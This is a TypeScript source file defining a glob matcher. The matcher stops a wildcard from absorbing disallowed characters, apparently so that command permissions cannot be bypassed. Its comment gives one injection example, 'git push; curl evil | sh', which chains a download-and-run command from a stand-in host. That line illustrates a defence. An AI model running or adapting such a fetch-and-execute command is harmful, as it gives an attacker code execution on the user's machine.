/**
 * Whether `text` matches a pattern of `*` (any run) and `?` (one character), in time linear in practice and
 * O(pattern × text) at worst: no backtracking beyond the last star.
 *
 * With `within`, a star may not swallow a character for which it answers false: so that a yes to `git push *`
 * is no yes to `git push; curl evil | sh`.
 */
export function glob(pattern: string, text: string, within: (char: string) => boolean = () => true): boolean {
  let p = 0
  let t = 0
  let star = -1
  let from = 0
  while (t < text.length) {
    const want = pattern[p]
    const char = text[t] as string
    if (want === '*') { star = p++; from = t; continue }
    if (want !== undefined && (want === char || (want === '?' && within(char)))) { p++; t++; continue }
    if (star < 0 || !within(text[from] as string)) return false
    p = star + 1
    t = ++from
  }
  while (pattern[p] === '*') p++
  return p === pattern.length
}
